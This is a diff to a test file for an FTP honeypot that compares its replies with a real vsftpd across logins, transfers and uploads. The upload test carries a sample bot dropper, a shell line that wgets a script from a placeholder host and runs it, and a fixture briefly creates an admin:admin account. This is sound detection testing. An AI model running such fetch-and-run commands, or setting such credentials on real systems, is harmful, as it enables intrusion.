@@ -1,6 +1,7 @@
 """FTP on the linux persona (issue 15): lure's port 21 side by side with
 Debian 12's vsftpd 3.0.3 (the package, run here on a loopback port with the
-stock /etc/vsftpd.conf's settings; seccomp_sandbox=NO for containers).
+stock /etc/vsftpd.conf's settings and write_enable=YES, as the persona;
+seccomp_sandbox=NO for containers).
 The same raw inputs go to both at once; the answers must be the same bytes,
 end the same way (closed or open) and come as late (the failure delay):
 nothing here is per instance before a login. The real daemon has no
@@ -30,6 +31,7 @@ listen_port={port}
 background=NO
 anonymous_enable=NO
 local_enable=YES
+write_enable=YES
 dirmessage_enable=YES
 use_localtime=YES
 xferlog_enable=NO
@@ -201,7 +203,7 @@ def test_login_and_commands_are_events(sensor):
         b"250 Directory successfully changed.",
         b"200 PORT command successful. Consider using PASV.",
         b"425 Failed to establish connection.",
-        b"500 Unknown SITE command.",
+        b"550 SITE CHMOD command failed.",
         b"221 Goodbye."]
     assert end == "eof"
     ok = sensor.wait_event("login", user__name="admin")
@@ -286,3 +288,195 @@ def test_lftp_like_vsftpd(vsftpd, sensor):
     assert ok.stdout == (b'257 "/home/admin" is the current directory\n'
                          b"215 UNIX Type: L8\n")
     sensor.wait_event("command", user__name="admin", lure__command="SYST")
+
+
+@pytest.fixture(scope="module")
+def admin_account():
+    """The account lure accepts (admin:admin, home /home/admin), made on
+    this machine for the real vsftpd, and removed after; a machine that has
+    an admin already is left alone (skip)."""
+    if os.geteuid() != 0 or not shutil.which("useradd"):
+        pytest.skip("needs root and useradd")
+    if subprocess.run(["id", "admin"], capture_output=True).returncode == 0:
+        pytest.skip("this machine has an admin account: not touched")
+    subprocess.run(["useradd", "-m", "-d", "/home/admin", "-s", "/bin/sh",
+                    "admin"], check=True)
+    subprocess.run(["chpasswd"], input=b"admin:admin\n", check=True)
+    yield "admin"
+    subprocess.run(["userdel", "-r", "admin"], capture_output=True)
+
+
+def read_reply(f):
+    """One FTP reply (its continuation lines too) from file f."""
+    out = b""
+    while True:
+        line = f.readline()
+        out += line
+        if not line or line[3:4] == b" ":
+            return out
+
+
+def read_all(d):
+    """What a data connection brings until its end."""
+    got = b""
+    while True:
+        b = d.recv(65536)
+        if not b:
+            return got
+        got += b
+
+
+def transfers(port, steps):
+    """Log in as admin, then for each (PASV|EPSV, command): open the
+    passive data connection the reply names, send the command, read the
+    data to its end and the replies. The control bytes (passive ports
+    masked) and the data of each step."""
+    import re
+    s = socket.create_connection(("127.0.0.1", port), timeout=10)
+    f = s.makefile("rb")
+
+    def reply():
+        return read_reply(f)
+    log = [reply()]
+    for c in (b"USER admin\r\n", b"PASS admin\r\n"):
+        s.sendall(c)
+        log.append(reply())
+    data = []
+    for mode, cmd in steps:
+        s.sendall(mode + b"\r\n")
+        r = reply()
+        if mode == b"PASV":
+            h = re.search(rb"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", r)
+            dport = int(h.group(5)) * 256 + int(h.group(6))
+            r = r.replace(h.group(0), b"(PORT)")
+        else:
+            h = re.search(rb"\(\|\|\|(\d+)\|\)", r)
+            dport = int(h.group(1))
+            r = r.replace(h.group(0), b"(PORT)")
+        log.append(r)
+        d = socket.create_connection(("127.0.0.1", dport), timeout=10)
+        s.sendall(cmd + b"\r\n")
+        first = reply()
+        log.append(first)
+        got = b""
+        if first.startswith(b"150"):
+            got = read_all(d)
+            log.append(reply())
+        d.close()
+        data.append(got)
+    s.sendall(b"QUIT\r\n")
+    log.append(reply())
+    s.close()
+    return log, data
+
+
+def test_transfers_like_vsftpd(vsftpd, admin_account, sensor):
+    """PASV and EPSV data connections: LIST and NLST of the new home (empty:
+    vsftpd hides its dot files), RETR of a file both have (/etc/hostname:
+    its size and bytes are the machine's, masked), RETR of a missing file
+    and of a relative path; the replies the same bytes on both."""
+    steps = [(b"PASV", b"LIST"), (b"EPSV", b"NLST"),
+             (b"PASV", b"RETR /etc/hostname"), (b"EPSV", b"RETR /nope"),
+             (b"PASV", b"RETR hostname")]
+    real, rdata = transfers(vsftpd, steps)
+    ours, odata = transfers(sensor.port(21), steps)
+
+    def mask(log):
+        import re
+        return [re.sub(rb"\(\d+ bytes\)", b"(N bytes)", x) for x in log]
+    assert mask(ours) == mask(real)
+    assert odata[0] == rdata[0] == b""  # the empty home, both
+    assert odata[1] == rdata[1] == b""
+    assert odata[2] == b"debian\n"  # the persona's; vsftpd's is this machine's
+    ev = sensor.wait_event("command", lure__command="RETR /etc/hostname")
+    assert get(ev, "user.name") == "admin"
+
+
+def test_uploads_like_vsftpd(vsftpd, admin_account, sensor):
+    """write_enable=YES: a bot's upload as bots send it (STOR a script,
+    SITE CHMOD, LIST to look, then the clean-up), MKD/RMD, RNFR/RNTO,
+    SIZE/MDTM, STOU, APPE, a STOR where admin may not write; the same
+    replies and listings on both (dates masked), and lure's "upload"
+    event with the script's SHA-256."""
+    import hashlib
+    import re
+    script = b"#!/bin/sh\ncd /tmp; wget http://198.51.100.7/x.sh; sh x.sh\n"
+
+    def session(port):
+        s = socket.create_connection(("127.0.0.1", port), timeout=10)
+        f = s.makefile("rb")
+        log, data = [], []
+
+        def reply():
+            return read_reply(f)
+
+        def cmd(c):
+            s.sendall(c + b"\r\n")
+            r = reply()
+            log.append(re.sub(rb"\d{14}", b"MDTM", r))
+            return r
+
+        def xfer(c, payload=None):
+            r = cmd(b"PASV")
+            h = re.search(rb"\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)", r)
+            log[-1] = b"227 PASV"
+            d = socket.create_connection(
+                ("127.0.0.1", int(h.group(5)) * 256 + int(h.group(6))),
+                timeout=10)
+            r = cmd(c)
+            got = b""
+            if r.startswith(b"150"):
+                if payload is not None:
+                    d.sendall(payload)
+                    d.close()
+                else:
+                    got = read_all(d)
+                log.append(reply())
+            d.close()
+            # the date, and admin's uid and gid (this machine's)
+            got = re.sub(rb"\w{3} \d\d \d\d:\d\d", b"DATE", got)
+            data.append(re.sub(rb"(?m)^(\S+ +\d+) \d+ +\d+ ", rb"\1 ID ID ",
+                               got))
+
+        reply()
+        cmd(b"USER admin")
+        cmd(b"PASS admin")
+        xfer(b"STOR x.sh", script)
+        cmd(b"SITE CHMOD 755 x.sh")
+        xfer(b"LIST")
+        xfer(b"NLST")
+        cmd(b"SIZE x.sh")
+        cmd(b"MDTM x.sh")
+        xfer(b"APPE x.sh", b"echo done\n")
+        cmd(b"SIZE x.sh")
+        cmd(b"MKD d")
+        cmd(b"MKD d")
+        cmd(b"CWD d")
+        cmd(b"PWD")
+        cmd(b"CDUP")
+        cmd(b"RNFR x.sh")
+        cmd(b"RNTO y.sh")
+        cmd(b"RNTO z.sh")
+        cmd(b"SIZE x.sh")
+        xfer(b"STOR /etc/x", b"x")
+        xfer(b"STOR /tmp/lure-ftp-test.sh", b"x")
+        cmd(b"DELE /tmp/lure-ftp-test.sh")
+        cmd(b"DELE y.sh")
+        cmd(b"DELE y.sh")
+        cmd(b"RMD d")
+        cmd(b"RMD d")
+        cmd(b"SITE CHMOD 777")
+        xfer(b"LIST")
+        cmd(b"QUIT")
+        s.close()
+        return log, data
+
+    real = session(vsftpd)
+    ours = session(sensor.port(21))
+    assert ours == real
+    assert real[1][1].endswith(b" x.sh\r\n")  # the upload was listed
+    ev = sensor.wait_event("upload", file__name="x.sh")
+    assert get(ev, "file.hash.sha256") == hashlib.sha256(script).hexdigest()
+    assert get(ev, "file.size") == len(script)
+    assert get(ev, "file.path") == "/home/admin/x.sh"
+    assert get(ev, "user.name") == "admin"
